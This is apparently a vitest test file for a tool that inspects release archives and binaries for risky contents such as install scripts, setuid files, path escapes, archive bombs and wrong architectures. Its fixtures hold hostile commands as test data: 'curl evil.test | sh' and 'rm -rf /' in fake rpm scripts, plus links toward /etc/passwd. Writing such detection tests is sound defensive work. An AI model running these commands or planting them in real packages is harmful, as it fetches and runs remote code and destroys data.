import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { changeFindings, compareContents } from '../../inspect/compare-contents.ts';
import { contentFindings } from '../../inspect/content-findings.ts';
import { LIMITS } from '../../inspect/limits.ts';
import { lookInside } from '../../inspect/look-inside.ts';
import { promisedBy } from '../../inspect/name-words.ts';
import { readProgram } from '../../inspect/formats/executable.ts';
import { elfOf, fileOf, machOOf, peOf, tarOf, universalOf, zipOf } from './files.ts';

async function namesOf(name: string, bytes: Uint8Array): Promise<string[]> {
  const contents = await lookInside(fileOf(name, bytes));
  return contentFindings(name, contents).map((found) => found.name);
}

const BASE64_BZ2 = 'QlpoOTFBWSZTWZg7MpUAAAGRgAAAECVkIAogACGmgzQZoAcXckU4UJCYOzKV';

describe('what is in an archive', () => {
  test('tar, gzip and all, with modes, links and scripts', async () => {
    const tar = await tarOf(
      { header: { name: 'tool/', size: 0, type: 'directory' } },
      { header: { name: 'tool/run.sh', size: 10, mode: 0o755 }, body: '#!/bin/sh\n' },
      { header: { name: 'tool/ok', size: 0, type: 'symlink', linkname: 'run.sh' } },
    );
    for (const bytes of [tar, gzipSync(tar)]) {
      const { kind, members, stopped } = await lookInside(fileOf('tool.tar', bytes));
      expect({ kind, stopped }).toEqual({ kind: 'tar', stopped: undefined });
      expect(members).toMatchObject([
        { path: 'tool/', kind: 'folder' },
        { path: 'tool/run.sh', kind: 'file', mode: 0o755, size: 10, script: true, text: '#!/bin/sh\n' },
        { path: 'tool/ok', kind: 'link', target: 'run.sh' },
      ]);
      expect(contentFindings('tool.tar', { kind, members })).toEqual([]);
    }
  });

  describe('rpm', () => {
    const cpio = (...members: { path: string; mode: number; body?: string }[]): Buffer =>
      Buffer.concat(
        [...members, { path: 'TRAILER!!!', mode: 0, body: '' }].flatMap(({ path, mode, body = '' }) => {
          const hex = (value: number): string => value.toString(16).padStart(8, '0');
          const fields = [1, mode, 0, 0, 1, 0, body.length, 0, 0, 0, 0, path.length + 1, 0];
          const pad = (text: Buffer): Buffer => Buffer.concat([text, Buffer.alloc((4 - (text.length % 4)) % 4)]);
          return [pad(Buffer.from(`070701${fields.map(hex).join('')}${path}\0`)), pad(Buffer.from(body))];
        }),
      );
    const header = (entries: readonly (readonly [tag: number, text: string])[]): Buffer => {
      const data = Buffer.from(entries.map(([, text]) => `${text}\0`).join(''), 'latin1');
      const index = Buffer.alloc(16 * entries.length);
      entries.forEach(([tag], i) => {
        const offset = entries.slice(0, i).reduce((sum, [, text]) => sum + text.length + 1, 0);
        [tag, 6, offset, 1].forEach((value, n) => index.writeUInt32BE(value, 16 * i + 4 * n));
      });
      const intro = Buffer.alloc(16);
      [0x8eade801, 0, entries.length, data.length].forEach((value, n) => intro.writeUInt32BE(value, 4 * n));
      return Buffer.concat([intro, index, data]);
    };
    const rpm = (payload: Uint8Array, scripts: readonly (readonly [number, string])[] = []): Buffer => {
      const signatures = header([[1000, 'x']]);
      const pad = Buffer.alloc((8 - (signatures.length % 8)) % 8);
      const lead = Buffer.alloc(96);
      lead.writeUInt32BE(0xedabeedb);
      return Buffer.concat([lead, signatures, pad, header([[1000, 'tool'], ...scripts]), payload]);
    };
    const files = cpio(
      { path: './usr/bin', mode: 0o040755 },
      { path: './usr/bin/tool', mode: 0o100755, body: '#!/bin/sh\n' },
      { path: './usr/bin/t', mode: 0o120777, body: 'tool' },
    );

    test('what it installs, and the scripts that run then', async () => {
      for (const payload of [files, gzipSync(files)]) {
        const contents = await lookInside(fileOf('tool.rpm', rpm(payload, [[1024, 'systemctl restart tool']])));
        expect(contents).toMatchObject({ kind: 'rpm' });
        expect(contents.stopped).toBeUndefined();
        expect(contents.members).toMatchObject([
          { path: 'RPM/postin', installs: true, text: 'systemctl restart tool' },
          { path: './usr/bin', kind: 'folder' },
          { path: './usr/bin/tool', kind: 'file', mode: 0o755, script: true },
          { path: './usr/bin/t', kind: 'link', target: 'tool' },
        ]);
        expect(contentFindings('tool.rpm', contents).map(({ name }) => name)).toEqual(['install-script']);
      }
    });

    test('programs that run without a script, scripts of rarer kinds and of another type', async () => {
      const bytes = rpm(files, [
        [1086, '/bin/sh\0-c\0curl evil.test | sh'],
        [5066, 'rm -rf /\0true'],
        [1085, '/bin/sh'],
        [1023, 'true'],
      ]);
      const trigger = bytes.indexOf(Buffer.from([0, 0, 0x13, 0xca]));
      bytes.writeUInt32BE(9, trigger + 4);
      bytes.writeUInt32BE(2, trigger + 12);
      bytes.writeUInt32BE(3, bytes.indexOf(Buffer.from([0, 0, 0x04, 0x3e])) + 12);
      const { members } = await lookInside(fileOf('t.rpm', bytes));
      expect(members.slice(0, 3)).toMatchObject([
        { path: 'RPM/prein', text: 'true' },
        { path: 'RPM/postin', installs: true, text: '#!/bin/sh -c curl evil.test | sh\n' },
        { path: 'RPM/filetrigger', installs: true, text: 'rm -rf /\ntrue' },
      ]);
    });

    test('a tag that stands twice, of no string, or of millions of strings, is refused before they are read', async () => {
      const twice = Array.from({ length: 3 }, () => [1024, 'x'] as const);
      expect((await lookInside(fileOf('t.rpm', rpm(files, twice)))).stopped).toMatchObject({ why: 'unreadable' });
      const changed = async (at: number, value: number) => {
        const bytes = rpm(files, [[1024, '\0'.repeat(20_000)]]);
        bytes.writeUInt32BE(value, bytes.indexOf(Buffer.from([0, 0, 0x04, 0x00])) + at);
        return (await lookInside(fileOf('t.rpm', bytes))).stopped;
      };
      expect(await changed(4, 7)).toMatchObject({ why: 'unreadable' });
      expect(await changed(12, 0)).toMatchObject({ why: 'unreadable' });
      expect(await changed(12, 20_000)).toMatchObject({ why: 'too-much' });
    });

    test('the modes of its header count, which rpm installs by', async () => {
      const withModes = (modes: string, [type = 3, count = 1]: readonly number[] = []): Buffer => {
        const bytes = rpm(files, [
          [1030, modes],
          [1116, '\0\0\0\0'],
          [1117, 'tool'],
          [1118, '/usr/bin/'],
        ]);
        const set = (tag: number, at: number, value: number): unknown =>
          bytes.writeUInt32BE(value, bytes.indexOf(Buffer.from([0, 0, tag >> 8, tag & 0xff, 0, 0, 0, 6])) + at);
        for (const [tag, of] of [1030, 1116, 1117, 1118].map((each, i) => [each, [type, 4, 8, 8][i] ?? 0] as const)) {
          if (tag === 1030) set(tag, 12, count);
          set(tag, 4, of);
        }
        return bytes;
      };
      // 0o104755, as bytes of text
      expect(await namesOf('t.rpm', withModes('\x89\xed'))).toEqual(['member-setuid']);
      const stopped = async (bytes: Buffer) => (await lookInside(fileOf('t.rpm', bytes))).stopped;
      expect(await stopped(withModes('\x21\xed'))).toMatchObject({ why: 'unreadable' });
      expect(await stopped(withModes('\x81\xed', [4, 1]))).toMatchObject({ why: 'unreadable' });
      expect(await stopped(withModes('\x81\xed', [3, 40_000]))).toMatchObject({ why: 'unreadable' });
      expect(await stopped(withModes('\x81\xed', [3, 60_000]))).toMatchObject({ why: 'too-much' });
      expect(await stopped(withModes('\x81\xed'))).toBeUndefined();
    });

    test('setuid, devices, and members that lead out', async () => {
      const odd = cpio(
        { path: './usr/bin/su', mode: 0o104755, body: 'x' },
        { path: './dev/x', mode: 0o060644 },
        { path: '../../etc/passwd', mode: 0o100644, body: 'x' },
      );
      expect(await namesOf('t.rpm', rpm(odd))).toEqual(['member-escapes', 'member-setuid', 'member-device']);
    });

    test.each([
      ['cut off in its files', rpm(files).subarray(0, -200)],
      ['cut off in its headers', rpm(files).subarray(0, 120)],
      ['with a header that has no end', Buffer.concat([rpm(files).subarray(0, 104), Buffer.alloc(400, 0x7f)])],
      ['with another archive', rpm(Buffer.from('no cpio at all'.repeat(20)))],
    ])('%s is damaged, or too much, and no crash', async (_, bytes) => {
      expect((await lookInside(fileOf('t.rpm', bytes))).stopped).toBeDefined();
    });

    test('a bomb is stopped', async () => {
      const bomb = gzipSync(cpio({ path: './zeros', mode: 0o100644, body: '\0'.repeat(20_000_000) }));
      const { stopped } = await lookInside(fileOf('t.rpm', rpm(bomb)), { ...LIMITS, bytes: 1_000_000 });
      expect(stopped).toMatchObject({ why: 'too-much' });
    });
  });

  test('setuid, devices, members and links that lead out, several of one name', async () => {
    const tar = await tarOf(
      { header: { name: 'a/../../evil', size: 0 } },
      { header: { name: 'x', size: 0, type: 'symlink', linkname: '../etc/passwd' } },
      { header: { name: 'su', size: 0, mode: 0o4755 } },
      { header: { name: 'dev', size: 0, type: 'block-device' } },
      { header: { name: './SU', size: 0 } },
    );
    expect(await namesOf('t.tar', tar)).toEqual(['member-escapes', 'member-setuid', 'member-device', 'member-twice']);
    expect(
      await namesOf('t.tar', await tarOf({ header: { name: 'a/b', size: 0, type: 'symlink', linkname: '../c' } })),
    ).toEqual([]);
  });

  test('zip, with what leads out, is encrypted, or is an archive again', async () => {
    expect(await namesOf('t.zip', zipOf({ name: 'bin/tool', content: 'x' }))).toEqual([]);
    expect(await namesOf('t.zip', zipOf({ name: '../tool', content: 'x' }))).toEqual(['member-escapes']);
    expect(await namesOf('t.zip', zipOf({ name: '/etc/tool', content: 'x' }))).toEqual(['member-escapes']);
    const link = zipOf({ name: 'l', content: '../../x', mode: 0o120777 });
    expect(await namesOf('t.zip', link)).toEqual(['member-escapes']);
    expect(await namesOf('t.zip', zipOf({ name: 'a', content: 'x', flags: 1 }))).toEqual(['member-encrypted']);
    expect(await namesOf('t.zip', zipOf({ name: 'a.jar', content: 'PK\u0003\u0004' }))).toEqual(['archive-nested']);
  });

  test('a Debian package tells the scripts that it runs', async () => {
    const control = gzipSync(await tarOf({ header: { name: './postinst', size: 10 }, body: '#!/bin/sh\n' }));
    const data = gzipSync(await tarOf({ header: { name: './usr/bin/x', size: 1 }, body: 'x' }));
    const entry = (name: string, bytes: Uint8Array): Buffer =>
      Buffer.concat([
        Buffer.from(`${name.padEnd(48)}${String(bytes.length).padEnd(10)}\`\n`),
        bytes,
        Buffer.alloc(bytes.length % 2, '\n'),
      ]);
    const deb = Buffer.concat([Buffer.from('!<arch>\n'), entry('control.tar.gz', control), entry('data.tar.gz', data)]);
    const contents = await lookInside(fileOf('x.deb', deb));
    expect(contents.members.map(({ path }) => path)).toEqual(['DEBIAN/postinst', './usr/bin/x']);
    expect(contentFindings('x.deb', contents).map(({ name }) => name)).toEqual(['install-script']);
  });

  test('a package hides nothing behind many parts, nor in one that cannot be read', async () => {
    const entry = (name: string, bytes: Uint8Array): Buffer =>
      Buffer.concat([
        Buffer.from(`${name.padEnd(48)}${String(bytes.length).padEnd(10)}\`\n`),
        bytes,
        Buffer.alloc(bytes.length % 2, '\n'),
      ]);
    const data = await tarOf({ header: { name: './su', size: 0, mode: 0o4755 } });
    const many = Array.from({ length: 70 }, (_, i) => entry(`_${i}`, Buffer.from('x')));
    const magic = Buffer.from('!<arch>\n');
    expect(await namesOf('x.deb', Buffer.concat([magic, ...many, entry('data.tar', data)]))).toEqual(['archive-bomb']);
    const lzma = Buffer.concat([magic, entry('data.tar.lzma', Buffer.from('5d00008000', 'hex'))]);
    expect(await namesOf('x.deb', lzma)).toEqual(['archive-unreadable']);
  });

  test('a tar of the oldest kind, which has no name of its own', async () => {
    const tar = Buffer.from(await tarOf({ header: { name: 'su', size: 0, mode: 0o4755 } }));
    tar.fill(0, 257, 265);
    const sum = tar.subarray(0, 512).reduce((total, byte, at) => total + (at >= 148 && at < 156 ? 0x20 : byte), 0);
    tar.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    expect(await namesOf('t.tar', tar)).toEqual(['member-setuid']);
    expect(await namesOf('t.tar.gz', gzipSync(tar))).toEqual(['member-setuid']);
  });

  test('a bomb is a finding, whatever it is wrapped in', async () => {
    const limits = { ...LIMITS, free: 1024 * 1024 };
    const bomb = gzipSync(Buffer.alloc(8 * 1024 * 1024));
    const { stopped } = await lookInside(fileOf('bomb.gz', bomb), limits);
    expect(stopped).toMatchObject({ why: 'too-much' });
    const bz2 = await lookInside(fileOf('x.bz2', Buffer.from(BASE64_BZ2, 'base64')), { ...limits, free: 1, ratio: 0 });
    expect(bz2.stopped).toBeDefined();
    const many = await tarOf(...Array.from({ length: 20 }, (_, i) => ({ header: { name: `f${i}`, size: 0 } })));
    const full = await lookInside(fileOf('many.tar', many), { ...limits, entries: 10 });
    expect(full.stopped).toMatchObject({ why: 'too-much' });
    expect(contentFindings('many.tar', full).map(({ name }) => name)).toEqual(['archive-bomb']);
  });

  test('what is cut off can’t be read, and what was seen is told', async () => {
    const zip = zipOf({ name: 'bin/tool', content: 'x' });
    expect(await namesOf('t.zip', zip.subarray(0, 40))).toEqual(['archive-unreadable']);
    const gzip = gzipSync(await tarOf({ header: { name: 'a', size: 1 }, body: 'x' }));
    expect(await namesOf('t.tgz', gzip.subarray(0, gzip.length - 20))).toContain('archive-unreadable');
  });
});

describe('a program', () => {
  test('that is for another processor or system than its name says', async () => {
    expect(await namesOf('tool-linux-arm64', elfOf(62))).toEqual(['wrong-architecture']);
    expect(await namesOf('tool-linux-arm64', elfOf(183))).toEqual([]);
    expect(await namesOf('tool-darwin-amd64', elfOf(62))).toEqual(['wrong-architecture']);
    expect(await namesOf('tool', elfOf(62))).toEqual([]);
  });

  const [X86, ARM] = [0x01000007, 0x0100000c];
  const SYSTEM = '/usr/lib/libSystem.B.dylib';

  test.each([true, false])('of macOS tells its processor, libraries and whether it is signed: %j', async (signed) => {
    const program = machOOf(ARM, SYSTEM, signed);
    const said = { format: 'mach-o', libraries: [SYSTEM], signed };
    expect(readProgram(program)).toEqual({ ...said, architectures: ['arm64'] });
    const both = universalOf(machOOf(X86, SYSTEM, true), program);
    expect(readProgram(both)).toEqual({ ...said, architectures: ['x86-64', 'arm64'] });
    expect(await namesOf('tool-darwin-arm64', program)).toEqual([]);
    expect(await namesOf('tool-darwin-amd64', program)).toEqual(['wrong-architecture']);
    expect(await namesOf('tool-darwin-amd64', both)).toEqual([]);
    expect(await namesOf('tool-linux-arm64', program)).toEqual(['wrong-architecture']);
  });

  test.each([true, false])('of Windows tells its processor, libraries and whether it is signed: %j', async (signed) => {
    const program = peOf(0x8664, 'KERNEL32.dll', signed);
    expect(readProgram(program)).toEqual({
      ...{ format: 'pe', architectures: ['x86-64'], libraries: ['KERNEL32.dll'], signed },
    });
    expect(await namesOf('tool-windows-amd64.exe', program)).toEqual([]);
    expect(await namesOf('tool-windows-arm64.exe', program)).toEqual(['wrong-architecture']);
    expect(await namesOf('tool-linux-amd64', program)).toEqual(['wrong-architecture']);
  });

  test('that lost its code signature since, and asks for another library', async () => {
    for (const of of [
      (library: string, signed: boolean) => machOOf(ARM, library, signed),
      (library: string, signed: boolean) => peOf(0x8664, library, signed),
    ]) {
      const before = await lookInside(fileOf('tool', of('one', true)));
      const now = await lookInside(fileOf('tool', of('two', false)));
      const same = (path: string): string => path;
      const changes = compareContents(before, now, { before: same, now: same });
      expect(changeFindings('tool', 'v1', changes).map(({ name }) => name)).toEqual([
        'new-library',
        'code-signature-gone',
      ]);
    }
  });

  test('that is cut off anywhere, or points out of itself, is told of without a failure', () => {
    for (const whole of [
      machOOf(ARM, SYSTEM, true),
      peOf(0x8664, 'a.dll', true),
      universalOf(machOOf(X86, SYSTEM, true)),
    ]) {
      for (let length = 0; length < whole.length; length += 7) {
        expect(() => readProgram(whole.subarray(0, length))).not.toThrow();
        expect(() =>
          readProgram(Buffer.from(whole).fill(0xff, length, Math.min(length + 4, whole.length))),
        ).not.toThrow();
      }
    }
  });

  test.each([
    ['jq-linux-amd64', { architecture: 'x86-64', format: 'elf' }],
    ['tool_Darwin_x86_64.tar.gz', { architecture: 'x86-64', format: 'mach-o' }],
    ['t-aarch64-unknown-linux-musl.tar.xz', { architecture: 'arm64', format: 'elf' }],
    ['t-x86_64-pc-windows-msvc.zip', { architecture: 'x86-64', format: 'pe' }],
    ['t-linux-386', { architecture: 'x86', format: 'elf' }],
    ['t_macOS_universal.zip', {}],
    ['checksums.txt', {}],
  ])('%s promises %j', (name, promised) => {
    expect(promisedBy(name)).toEqual(promised);
  });
});

test('what is new in an archive, its version aside', async () => {
  const of = async (version: string, ...more: { name: string; content: string; mode?: number }[]) =>
    lookInside(
      fileOf(
        't.zip',
        zipOf(
          { name: `tool-${version}/bin`, content: 'program', mode: 0o100755 },
          ...more.map((member) => ({ ...member, name: `tool-${version}/${member.name}` })),
        ),
      ),
    );
  const before = await of('1.0', { name: 'a', content: 'x' }, { name: 'gone', content: 'x' });
  const now = await of(
    '1.1',
    { name: 'a', content: 'x'.repeat(300_000) },
    { name: 'setup.sh', content: 'rm -rf /' },
    { name: 'doc', content: 'text' },
  );
  const changes = compareContents(before, now, {
    before: (name) => name.replace('1.0', ''),
    now: (name) => name.replace('1.1', ''),
  });
  expect(changeFindings('t.zip', 'v1.0', changes).map(({ name, message }) => [name, message])).toEqual([
    ['new-program', 't.zip has programs or scripts that were not in v1.0: tool-1.1/setup.sh'],
    ['member-grew', 't.zip has members that grew past reason since v1.0: tool-1.1/a 1 B -> 293.0 KiB'],
    ['members-added', 't.zip has members that were not in v1.0: tool-1.1/setup.sh, tool-1.1/doc'],
    ['members-gone', 't.zip lacks members of v1.0: tool-1.0/gone'],
  ]);
});
